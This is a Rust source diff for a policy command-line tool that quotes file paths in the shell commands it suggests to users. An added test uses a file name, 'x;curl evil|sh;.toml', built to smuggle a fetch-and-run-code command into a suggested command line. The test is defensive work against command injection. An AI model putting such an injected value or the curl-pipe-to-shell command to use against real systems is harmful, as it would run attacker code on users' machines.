@@ -27,7 +27,7 @@ use crate::render::escape::escaped;
 use crate::render::page::{BAD, Page, STRONG};
 use crate::render::status::Broken;
 use crate::render::time::Clock;
-use crate::render::{Output, command_line};
+use crate::render::{Output, command_line, path_word};
 
 /// A policy that has a name.
 #[derive(Debug, Serialize)]
@@ -178,7 +178,7 @@ fn list(all: &[Named], _clock: &Clock) -> Page {
             page.styled(BAD, "broken").text("  ");
             page.line(format_args!("{}, {error}", file.display()));
             if file.is_file() {
-                page.commands(format_args!("guard check {}", file.display()));
+                page.commands(format_args!("guard check {}", path_word(file)));
             }
         }
     }
@@ -318,7 +318,7 @@ fn own_copy(name: &str) -> String {
 fn again(name: &str, dir: &Path) -> String {
     match dir == Path::new(INSTALLED[0]) {
         true => format!("guard policy edit {name}"),
-        false => format!("guard policy edit {name} --policy-dir {}", dir.display()),
+        false => format!("guard policy edit {name} --policy-dir {}", path_word(dir)),
     }
 }
 
@@ -365,7 +365,7 @@ fn open(file: &Path) -> Result<bool, Failure> {
         why,
         fix: format!(
             "set EDITOR to another, or open it yourself:\n{}",
-            file.display()
+            path_word(file)
         ),
     };
     match done {
@@ -379,7 +379,7 @@ fn open(file: &Path) -> Result<bool, Failure> {
 }
 
 fn next(edited: &Edited, _clock: &Clock) -> Page {
-    let file = edited.file.display();
+    let (file, word) = (edited.file.display(), path_word(&edited.file));
     let mut page = Page::default();
     page.styled(STRONG, &edited.name).line(match edited.copied {
         true if edited.read == Some(false) => format!(" is copied to {file}."),
@@ -393,7 +393,7 @@ fn next(edited: &Edited, _clock: &Clock) -> Page {
             "guardd does not look there: its policies are in {dirs}. As a file it can be run under:"
         ));
         page.commands(format_args!(
-            "guard check {file}\nguard run --policy {file} -- CMD"
+            "guard check {word}\nguard run --policy {word} -- CMD"
         ));
         return page;
     }
@@ -405,7 +405,7 @@ fn next(edited: &Edited, _clock: &Clock) -> Page {
         });
         page.commands(match edited.opened {
             true => format!("guard run --policy {name} -- CMD"),
-            false => format!("guard check {file}\nguard policy apply {name}"),
+            false => format!("guard check {word}\nguard policy apply {name}"),
         });
         return page;
     }
@@ -415,7 +415,7 @@ fn next(edited: &Edited, _clock: &Clock) -> Page {
     };
     page.commands(match edited.opened {
         true => "guard status".to_owned(),
-        false => format!("guard check {file}\nguard status"),
+        false => format!("guard check {word}\nguard status"),
     });
     page
 }
@@ -454,6 +454,48 @@ mod tests {
         let refused = PolicyFile::read_kept(&pipe).unwrap_err();
         assert!(refused.why.contains("it is no regular file"), "{refused}");
         assert_eq!(personal("shop", &Person::of_home(home.path())), None);
+    }
+
+    /// What runs as the person chooses such a name.
+    #[test]
+    fn a_command_to_copy_has_a_path_as_one_word() {
+        let dir = tempfile::tempdir().unwrap();
+        let file = dir.path().join("x;curl evil|sh;.toml");
+        fs::write(&file, "").unwrap();
+        let word = format!("'{}'", file.display());
+        let named = Named {
+            name: "x".to_owned(),
+            file: Some(file.clone()),
+            error: Some("line 1: no".to_owned()),
+            fleet: false,
+            around: false,
+        };
+        let clock = crate::render::examples::clock();
+        let listed = list(&[named], &clock).plain();
+        assert!(
+            listed.contains(&format!("guard check {word}\n")),
+            "{listed}"
+        );
+        let edited = Edited {
+            name: "x".to_owned(),
+            file: file.clone(),
+            copied: true,
+            opened: false,
+            read: Some(false),
+            own: false,
+        };
+        let edited = next(&edited, &clock).plain();
+        assert!(
+            edited.contains(&format!("guard run --policy {word} -- CMD")),
+            "{edited}"
+        );
+        let invalid = PolicyFile {
+            name: file.display().to_string(),
+            text: "x".to_owned(),
+        };
+        let error = invalid.parse(Output::new(true)).unwrap_err();
+        let fix = &error.failure().unwrap().fix;
+        assert!(fix.ends_with(&format!("guard check {word}")), "{fix}");
     }
 
     #[test]
